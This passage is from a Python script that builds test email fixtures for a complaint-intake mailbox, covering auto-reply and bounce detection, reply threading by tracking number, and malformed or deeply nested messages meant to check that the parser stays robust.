dan tidak dapat membalas. Untuk urusan mendesak hubungi kantor RW.
"""
n += 1
case("auto-submitted-auto-replied",
     head(n, "Rina Marlina <rina.marlina@warga.test>", "Re: Laporan Anda telah kami terima [7KQM-3XW0]",
          ctype="text/plain; charset=utf-8",
          extra="Auto-Submitted: auto-replied\nIn-Reply-To: <ack-1@aduan.test>\nReferences: <ack-1@aduan.test>") + "\n" + OOO,
     "ignored", "-", "out-of-office to our acknowledgement: Auto-Submitted: auto-replied (with tracking number and In-Reply-To)")

n += 1
case("auto-submitted-auto-generated",
     head(n, "Sistem Tagihan <noreply-tagihan@billing.warga.test>", "Tagihan air Anda bulan Januari",
          ctype="text/plain; charset=utf-8", extra="Auto-Submitted: auto-generated") + """
Air PDAM di wilayah Anda akan mati tanggal 12 Januari karena perbaikan pipa.
Tagihan bulan ini: Rp 87.500.
""", "ignored", "-", "Auto-Submitted: auto-generated (system notification)")

n += 1
case("auto-submitted-folded-mixed-case",
     head(n, "Agus Salim <agus.salim@warga.test>", "Otomatis: Jalan rusak di Cibiru",
          ctype="text/plain; charset=utf-8", extra="AUTO-SUBMITTED:\n\tAuto-Replied (vacation)") + "\n" + OOO,
     "ignored", "-", "Auto-Submitted folded onto a continuation line, upper-case name, value with a comment")

n += 1
case("auto-submitted-auto-notified",
     head(n, "Sieve <sieve@mail.warga.test>", "Pemberitahuan: pesan Anda diterima",
          ctype="text/plain; charset=utf-8", extra="Auto-Submitted: auto-notified") + """
Pesan berjudul "Air PDAM mati" telah diterima oleh kotak surat tujuan.
""", "ignored", "-", "Auto-Submitted: auto-notified (RFC 5436): anything but no")

n += 1
case("precedence-bulk",
     head(n, "Buletin Kelurahan <buletin@kelurahan.warga.test>", "Buletin Warga edisi Januari",
          ctype="text/plain; charset=utf-8", extra="Precedence: bulk") + """
Jadwal pemadaman air PDAM minggu ini dan info perbaikan jalan di wilayah kita.
Vaksinasi gratis di balai RW hari Sabtu.
""", "ignored", "-", "Precedence: bulk newsletter")

n += 1
case("precedence-junk",
     head(n, "Promo Hebat <promo@toko.warga.test>", "DISKON 90% pompa air!!!",
          ctype="text/plain; charset=utf-8", extra="Precedence: junk") + """
Air PDAM sering mati? Beli pompa air kami sekarang, diskon 90%!
""", "ignored", "-", "Precedence: junk")

n += 1
case("precedence-list",
     head(n, "Pak RT 03 <rt03@warga.test>", "[warga-rw05] Air mati lagi",
          to="warga-rw05@lists.warga.test", ctype="text/plain; charset=utf-8",
          extra="Cc: pengaduan@aduan.test\nPrecedence: list") + """
Bapak-bapak, air PDAM di RW 05 mati lagi sejak pagi. Siapa yang sudah lapor?
""", "ignored", "-", "Precedence: list (complaint-like text, list copy)")

n += 1
case("list-id",
     head(n, "Bu Ani <bu.ani@warga.test>", "[warga-rw05] Lampu jalan Gang 3 mati",
          to="warga-rw05@lists.warga.test", ctype="text/plain; charset=utf-8",
          extra="Cc: pengaduan@aduan.test\nList-Id: Warga RW 05 <warga-rw05.lists.warga.test>") + """
Lampu jalan di Gang 3 mati lagi, sudah ada yang lapor ke kelurahan?
""", "ignored", "-", "List-Id header only (no Precedence), complaint-like text")

n += 1
case("list-unsubscribe",
     head(n, "Info Desa <info@desa.warga.test>", "Pengumuman penyaluran bansos tahap 2",
          ctype="text/plain; charset=utf-8",
          extra="List-Unsubscribe: <mailto:unsubscribe@desa.warga.test?subject=stop>, <https://desa.warga.test/unsub?u=42>\n"
                "List-Unsubscribe-Post: List-Unsubscribe=One-Click") + """
Penyaluran bantuan sosial tahap 2 dilaksanakan tanggal 15 Januari di balai desa.
""", "ignored", "-", "List-Unsubscribe (one-click) on a mass mailing")

n += 1
case("x-autoreply",
     head(n, "Joko Susilo <joko.susilo@warga.test>", "Re: Laporan Anda telah kami terima",
          ctype="text/plain; charset=utf-8", extra="X-Autoreply: yes") + "\n" + OOO,
     "ignored", "-", "X-Autoreply: yes")

n += 1
case("x-autorespond",
     head(n, "Siti Rahayu <siti.rahayu@warga.test>", "Balasan otomatis: Bantuan sosial",
          ctype="text/plain; charset=utf-8", extra="X-Autorespond: Saya sedang di luar kota") + "\n" + OOO,
     "ignored", "-", "X-Autorespond with a free-text value")

n += 1
case("x-auto-response-suppress",
     head(n, "Microsoft Outlook <outlook-notify@mail.warga.test>", "Tidak terkirim: Laporan jalan rusak",
          ctype="text/plain; charset=utf-8", extra="X-Auto-Response-Suppress: All\nX-MS-Exchange-Generated-Message-Source: Mailbox Rules Agent") + """
Pesan Anda tentang jalan rusak di Cibiru tidak dapat diteruskan oleh aturan kotak surat.
""", "ignored", "-", "X-Auto-Response-Suppress: All (Exchange-generated)")

n += 1
case("null-return-path",
     "Return-Path: <>\n" + head(n, "Notifikasi <notifikasi@mail.warga.test>", "Laporan jalan rusak",
                               ctype="text/plain; charset=utf-8") + """
Jalan di depan SDN 2 Cibiru berlubang besar. Mohon segera ditambal.
""", "ignored", "-", "Return-Path: <> (null envelope sender), complaint-like text")

n += 1
case("from-mailer-daemon",
     head(n, "MAILER-DAEMON@mx.warga.test (Mail Delivery System)", "Undelivered Mail Returned to Sender",
          ctype="text/plain; charset=us-ascii") + """
This is the mail system at host mx.warga.test.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<budi.santoso@warga.test>: mailbox full

------ original message ------
Subject: Re: Air PDAM mati sudah 3 hari [7KQM-3XW0]
Air PDAM di RT 03/RW 05 Kelurahan Sukamaju sudah mati sejak hari Senin.
""", "ignored", "-", "plain-text bounce From MAILER-DAEMON@ (Postfix style, comment display name)")

n += 1
case("from-postmaster",
     head(n, "Postmaster <Postmaster@warga.test>", "Peringatan: kotak surat hampir penuh",
          ctype="text/plain; charset=utf-8") + """
Kotak surat pengaduan@aduan.test telah menerima pesan yang ditolak karena kebijakan.
""", "ignored", "-", "From Postmaster@ (mixed case)")

n += 1
ack = (f"From: Pengaduan Aduan <pengaduan@aduan.test>\nTo: Budi Santoso <budi.santoso@warga.test>\n"
       f"Subject: Laporan Anda telah kami terima [7KQM-3XW0]\nDate: {date(1)}\n"
       "Message-ID: <ack-1@aduan.test>\nAuto-Submitted: auto-replied\nMIME-Version: 1.0\n"
       "Content-Type: text/plain; charset=utf-8\n\n" + ACK_QUOTE.replace("> ", ""))
case("bounce-delivery-status",
     head(n, "Mail Delivery System <mail-system@mx.warga.test>", "Delivery Status Notification (Failure)",
          ctype='multipart/report; report-type=delivery-status; boundary="dsn-1"') + """
--dsn-1
Content-Type: text/plain; charset=us-ascii

Pesan Anda tidak dapat dikirim ke budi.santoso@warga.test: user unknown.

--dsn-1
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.warga.test
Arrival-Date: """ + date(1) + """

Final-Recipient: rfc822; budi.santoso@warga.test
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 user unknown

--dsn-1
Content-Type: message/rfc822

""" + ack + "\n--dsn-1--\n",
     "ignored", "-", "multipart/report delivery-status bounce of our ack (only trigger: the report type)")

n += 1
case("read-receipt-mdn",
     head(n, "Budi Santoso <budi.santoso@warga.test>", "Dibaca: Laporan Anda telah kami terima [7KQM-3XW0]",
          ctype='multipart/report; report-type=disposition-notification; boundary="mdn-1"',
          extra="References: <ack-1@aduan.test>") + """
--mdn-1
Content-Type: text/plain; charset=utf-8

Pesan Anda "Laporan Anda telah kami terima" telah dibaca pada 6 Jan 2025 09:12.

--mdn-1
Content-Type: message/disposition-notification

Reporting-UA: warga.test; Thunderbird 128.0
Final-Recipient: rfc822;budi.santoso@warga.test
Original-Message-ID: <ack-1@aduan.test>
Disposition: manual-action/MDN-sent-manually; displayed

--mdn-1--
""", "ignored", "-", "read receipt multipart/report disposition-notification (with References and tracking number)")

n += 1
case("from-own-address",
     head(n, "Pengaduan Aduan <pengaduan@aduan.test>", "Re: Air PDAM mati sudah 3 hari",
          ctype="text/plain; charset=utf-8", msgid="<CAFx0wn3Ad.8812@mail.provider.test>") + """
Baik Pak, laporan Anda sudah kami teruskan ke PDAM.
""", "ignored", "-", "From our own address, without Auto-Submitted and with a foreign Message-ID (staff echo)")

n += 1
case("auto-submitted-no",
     head(n, "Lurah Sukamaju <lurah.sukamaju@warga.test>", "Jalan rusak di depan kantor kelurahan",
          ctype="text/plain; charset=utf-8", extra="Auto-Submitted: no") + """
Jalan di depan kantor Kelurahan Sukamaju amblas sedalam 30 cm setelah hujan.
""", "complaint", "amblas sedalam 30 cm", "positive control: Auto-Submitted: no is a human message")

# ---------------------------------------------------------------- threading
n += 1
case("reply-in-reply-to-ack",
     head(n, "Budi Santoso <budi.santoso@warga.test>", "Re: Laporan Anda telah kami terima",
          ctype="text/plain; charset=utf-8",
          extra="In-Reply-To: <ack-1@aduan.test>\nReferences: <c01.0000000001@warga.test>\n <ack-1@aduan.test>") + """
Sampai hari ini air masih mati, sudah hari kelima. Tolong dikirim mobil tangki.

Pada Sen, 6 Jan 2025, Pengaduan Aduan menulis:
""" + ACK_QUOTE, "complaint", "sudah hari kelima",
     "follow-up: In-Reply-To and folded References name <ack-1@aduan.test>")

n += 1
case("reply-tracking-in-subject",
     head(n, "Budi Santoso <budi.santoso@warga.test>", "Re: Air mati [7KQM-3XW0]",
          ctype="text/plain; charset=utf-8") + """
Update: air sudah mengalir lagi tapi keruh dan berbau kaporit.
""", "complaint", "keruh dan berbau", "follow-up by tracking number in the subject only (no In-Reply-To)")

n += 1
case("reply-tracking-bad-check",
     head(n, "Budi Santoso <budi.santoso@warga.test>", "Re: Air mati [7KQM-3XW1]",
          ctype="text/plain; charset=utf-8") + """
Air di Blok C juga mati, bukan cuma Blok A.
""", "complaint", "Blok C juga mati", "tracking number with a wrong check character: no valid hint, a new complaint")

n += 1
case("reply-to-differs",
     head(n, "Budi Santoso <budi.santoso@warga.test>", "KTP anak saya belum jadi",
          ctype="text/plain; charset=utf-8", extra="Reply-To: Siti Aminah <siti.aminah@warga.test>") + """
KTP anak saya (17 tahun) belum jadi sejak rekam tiga bulan lalu.
Tolong balas ke istri saya, dia yang mengurus.
""", "complaint", "Tolong balas ke istri saya", "Reply-To differs from From")

n += 1
case("reply-to-own-address",
     head(n, "Maman Suherman <maman.suherman@warga.test>", "Lampu taman kota mati",
          ctype="text/plain; charset=utf-8", extra="Reply-To: pengaduan@aduan.test") + """
Lampu di Taman Lansia mati semua, taman jadi tempat mabuk-mabukan malam hari.
""", "complaint", "Taman Lansia", "Reply-To names our own address: answering it would loop")

# ---------------------------------------------------------------- garbage
n += 1
case("binary-garbage", bytes(RNG.randrange(256) for _ in range(4096)),
     "complaint_or_quarantine", "-", "4 KiB of random bytes, not a mail", eol="raw")

n += 1
case("empty-file", b"", "complaint_or_quarantine", "-", "zero-byte file", eol="raw")

n += 1
case("headers-no-blank-line",
     f"From: Ade Irawan <ade.irawan@warga.test>\nTo: pengaduan@aduan.test\n"
     f"Subject: Jalan berlubang di Jl. Cikutra\nDate: {date(n)}\nMessage-ID: {mid('c66')}\n",
     "complaint_or_quarantine", "Jl. Cikutra", "only headers, no blank line, no body")

n += 1
long_subj = "Subject: Jalan rusak " + "".join(f"RT{i:02d} " for i in range(1, 400))
long_subj = long_subj[:2000]
assert len(long_subj) == 2000
case("header-line-2000",
     "\n".join(l if not l.startswith("Subject") else long_subj
               for l in head(n, "Nining Kurnia <nining.kurnia@warga.test>", "x",
                             ctype="text/plain; charset=utf-8").split("\n")) + """
Semua jalan lingkungan di RW 11 rusak, daftar RT ada di judul.
""", "complaint", "jalan lingkungan di RW 11", "unfolded Subject line of 2000 characters (limit 998)")

n += 1
h = head(n, "Oman Abdurahman <oman.a@warga.test>", "Pengaduan jalan licin",
         ctype="text/plain; charset=utf-8").rstrip("\n").split("\n")
h.insert(3, "Ini baris tanpa titik dua di tengah header")
case("header-without-colon", "\n".join(h) + "\nX-Mailer: Warga Mail 1.0\n" + """
Jalan menurun di Punclut licin berlumut, sudah banyak motor tergelincir.
""", "complaint_or_quarantine", "Punclut licin", "a header line without a colon in the middle of the header block")

n += 1
NOPAD = base64.b64encode("Posyandu Melati di RW 02 tutup sejak Desember tanpa pengumuman!!".encode()).decode()
assert NOPAD.endswith("==")
NOPAD = NOPAD.rstrip("=")
case("base64-text-no-padding",
     head(n, "Cucu Sumiati <cucu.sumiati@warga.test>", "Posyandu tutup",
          ctype="text/plain; charset=utf-8", cte="base64") + "\n" +
     NOPAD + "\n",
     "complaint_or_quarantine", "Posyandu tutup", "base64 text body with its = padding stripped")

# ---------------------------------------------------------------- added later (keep numbers stable)
n += 1
depth = 5000
case("deep-nesting-5000-unclosed",
     head(n, "Karta Wijaya <karta.wijaya@warga.test>", "Irigasi sawah kering") +
     "".join(f'Content-Type: multipart/mixed; boundary="z{i}"\n\n--z{i}\n' for i in range(depth)) +
     "Content-Type: text/plain\n\nSaluran irigasi di Desa Cikalong jebol, sawah kering.\n",
     "complaint_or_quarantine", "Irigasi sawah kering",
     "5000 nested multiparts, no closing boundaries: recursion bait that must not overflow the stack")

n += 1
case("html-deep-nesting",
     head(n, "Enok Nurhayati <enok.nurhayati@warga.test>", "Saluran air tersumbat",
          ctype="text/html; charset=utf-8", cte="7bit") + "\n<html><body>" + "<div>" * 5000 +
     "Saluran air di Desa Cikalong tersumbat sampah." + "</div>" * 5000 + "</body></html>\n",
     "complaint_or_quarantine", "Saluran air tersumbat",
     "HTML-only body with 5000 nested <div>: the HTML-to-text step must not overflow the stack")

# ---------------------------------------------------------------- manifest
with open(os.path.join(HERE, "MANIFEST.tsv"), "w", encoding="utf-8", newline="\n") as f:
    f.write("file\texpect\tcontains\tnote\n")
    for row in CASES:
        f.write("\t".join(row) + "\n")

# remove stale files from an earlier numbering
names = {c[0] for c in CASES}
for old in os.listdir(HERE):
    if old.endswith(".eml") and old not in names:
        os.remove(os.path.join(HERE, old))
print(f"{len(CASES)} messages written", file=sys.stderr)
